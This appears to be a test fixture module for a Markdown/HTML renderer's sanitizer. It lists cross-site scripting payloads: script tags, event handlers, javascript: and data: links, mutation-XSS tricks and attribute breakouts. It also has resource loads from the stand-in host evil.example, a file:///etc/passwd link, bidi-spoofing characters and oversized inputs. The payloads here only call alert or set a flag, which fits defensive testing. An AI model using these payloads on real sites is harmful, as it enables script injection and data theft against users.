// Texts that try to do more than be read. What runs sets `window.ran`; what loads asks for `evil.example`.

const RUN = "window.ran=(window.ran||0)+1;alert(1)";
const AWAY = "https://evil.example";

/** Written out, as it is. */
export const TEXTS = {
  "script tags": `<script>${RUN}</script>\n\n<SCRIPT SRC=${AWAY}/x.js></SCRIPT>\n\na <script>${RUN}</script> b\n\n<scr<script>ipt>${RUN}</scr</script>ipt>`,
  "event handlers": `<img src=x onerror="${RUN}">\n\n<body onload=${RUN}>\n\n<a onmouseover=${RUN} href=x>over</a> <details open ontoggle=${RUN}><summary>s</summary></details>\n\n<input autofocus onfocus=${RUN}> <video><source onerror=${RUN}></video> <div style="animation-name:pulse" onanimationstart=${RUN}>d</div>`,
  "script links": `[a](javascript:${RUN}) [b](JaVaScRiPt:${RUN}) [c](java\tscript:${RUN}) [d](&#106;avascript:${RUN}) [e](vbscript:x) [f]( javascript:${RUN}) <javascript:${RUN}> [g][r] [h](\u0001javascript:${RUN}) [i](data:text/html,<script>${RUN}</script>) [j](//evil.example/x) [k](file:///etc/passwd)\n\n[r]: javascript:${RUN} "t"`,
  "data addresses": `![x](data:image/svg+xml;base64,${btoa(`<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"/>`)}) [y](data:text/html;base64,${btoa(`<script>${RUN}</script>`)}) <object data="data:text/html,<script>${RUN}</script>"></object>`,
  styles: `<style>* { display: none } body { background: url(${AWAY}/css) }</style>\n\n<p style="position:fixed;inset:0;background:url(${AWAY}/p)">cover</p>\n\n<link rel=stylesheet href=${AWAY}/s.css>\n\n<div class="shell card armed toast">classes</div>`,
  "images from outside": `![a](${AWAY}/a.png) ![b](//evil.example/b.png) <img src=${AWAY}/c.png> <picture><source srcset=${AWAY}/d.png></picture> [![e](${AWAY}/e.png)](${AWAY}) ![f][g]\n\n[g]: ${AWAY}/g.png`,
  "drawings and formulas": `<svg onload=${RUN}><script>${RUN}</script><animate onbegin=${RUN} attributeName=x dur=1s><foreignObject><img src=x onerror=${RUN}></foreignObject><use href="${AWAY}/u.svg#x"/></svg>\n\n<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;"></table></mtext></math>\n\n<svg><a xlink:href="javascript:${RUN}"><text y=20>x</text></a></svg>`,
  frames: `<iframe src="javascript:${RUN}"></iframe> <iframe srcdoc="<script>parent.ran=1</script>"></iframe> <embed src=${AWAY}/x.swf> <frameset onload=${RUN}> <form action=${AWAY}><button>send</button></form> <base href=${AWAY}/> <meta http-equiv=refresh content="0;url=${AWAY}">`,
  comments: `<!-- <script>${RUN}</script> -->\n\na <!--> <img src=x onerror=${RUN}> --> b\n\n<![CDATA[<script>${RUN}</script>]]> <?php echo 1 ?> <!DOCTYPE html> <!--[if IE]><script>${RUN}</script><![endif]-->`,
  "ends too early": `</div></div></div></main></body></html><script>${RUN}</script>\n\n</textarea></title></style></script><img src=x onerror=${RUN}>\n\n"'><svg/onload=${RUN}>`,
  "inside code":
    "`<img src=x onerror=" +
    RUN +
    '>` and\n\n```html"><img src=x onerror=' +
    RUN +
    ">\n</code></pre><script>" +
    RUN +
    "</script>\n```\n\n~~~js onload=" +
    RUN +
    "\n</pre>\n~~~",
  "attributes broken open": `[x](https://a.example/"onmouseover="${RUN}) [y](<https://a.example/' onclick='${RUN}> "t\\" onload=${RUN}") ![z" onerror="${RUN}](x "y' onerror='${RUN}")\n\n| <img src=x onerror=${RUN}> | b |\n|---|---|\n| \`</td><script>\` | [c](javascript:${RUN}) |\n\n# <a name="x" onclick=${RUN}>h</a>\n\nfoot[^1]\n\n[^1]: <script>${RUN}</script>`,
  "text that turns":
    "safe\u202Etxt.exe\u202C \u2066isolate\u2069 \u200Fright \u061C arabic; \u202Dforced\u202C גבאבג שלום mixed with العربية and left",
  "what cannot be seen":
    "zero\u200Bwidth\u200Cjoin\u200Dme\uFEFF soft\u00ADhyphen \u0000nul \u0007bell \u001B[31mred\u001B[0m \u0085 \u2028line\u2029 para \u{E0041}\u{E0042}tags \u3164 filler \u2800 blank",
  "combining marks": `Z${"\u0335\u0321\u0353".repeat(400)}algo ${"a\u0300".repeat(2_000)}`,
};

/** At full size: each near to what a message may have, or as deep as it likes. */
export const LARGE = {
  "one line of a megabyte": "x".repeat(1_000_000),
  "one line of a megabyte, of words": "word ".repeat(200_000),
  "a very long word in a sentence": `before ${"Donaudampfschiff".repeat(2_000)} after`,
  "a huge table": `| ${"c | ".repeat(20)}\n|${"---|".repeat(20)}\n${`| ${"cell | ".repeat(20)}\n`.repeat(2_500)}`,
  "a table of many columns": `|${"h|".repeat(2_000)}\n|${"-|".repeat(2_000)}\n|${"v|".repeat(2_000)}\n`,
  "quotes 10,000 deep": `${">".repeat(10_000)} deep`,
  "quotes 10,000 deep, line by line": Array.from({ length: 140 }, (_, at) => `${">".repeat(at * 72)} q`).join("\n"),
  "lists 400 deep": Array.from({ length: 400 }, (_, at) => `${"  ".repeat(at)}- item ${at}`).join("\n"),
  "brackets 50,000 deep": `${"[".repeat(50_000)}x${"](y)".repeat(50_000)}`,
  "stars and underscores": "*_".repeat(100_000) + "x",
  "100,000 emojis": "😀👩‍👩‍👧‍👦".repeat(20_000),
  "many links": "[a](https://a.example/b) ".repeat(20_000),
  "many tags": "<b><i><u>".repeat(40_000),
  "many fences": "```js\nlet a = 1;\n```\n\n".repeat(5_000),
  "one block of code, 900 kB": `\`\`\`rust\n${'fn main() { let a = "b"; }\n'.repeat(34_000)}\`\`\`\n`,
  "many headings": "# h\n\n".repeat(20_000),
  entities: "&lt;script&gt;&amp;#x6a;".repeat(20_000),
};

/** For a name: short, on one line. */
export const NAME = `"><img src=x onerror=${RUN}><script>${RUN}</script>\u202Eeman`;
